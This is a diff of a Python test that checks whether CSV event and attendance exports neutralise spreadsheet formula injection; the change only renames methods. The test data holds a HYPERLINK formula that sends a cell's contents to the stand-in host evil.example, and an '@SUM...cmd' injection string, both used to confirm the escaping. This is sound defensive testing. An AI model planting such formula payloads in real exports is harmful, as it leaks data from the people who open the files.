@@ -133,13 +133,13 @@ def test_event_and_attendance_exports_are_neutralised(sqlite_store: StoreSpec, p
     g = sqlite_store.open()
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     s = g.subjects.create(evil, embeddings=people.sample(0, 1))
-    g.log_event("@SUM(1+1)*cmd", subject_id=s.id, score=-0.125, decision="match")
-    events = list(csv.DictReader(io.StringIO(g.events_csv())))
+    g.events.log("@SUM(1+1)*cmd", subject_id=s.id, score=-0.125, decision="match")
+    events = list(csv.DictReader(io.StringIO(g.events.csv())))
     assert events[0]["source"] == "'@SUM(1+1)*cmd"
     assert events[0]["subject_name"] == "'" + evil
     assert events[0]["score"] == "-0.125"
-    day = g.events()[0].time.astimezone().date()
-    rows = list(csv.DictReader(io.StringIO(g.attendance_csv(day))))
+    day = g.events.list()[0].time.astimezone().date()
+    rows = list(csv.DictReader(io.StringIO(g.events.attendance_csv(day))))
     assert rows[0]["name"] == "'" + evil and rows[0]["sources"] == "'@SUM(1+1)*cmd"
 
 
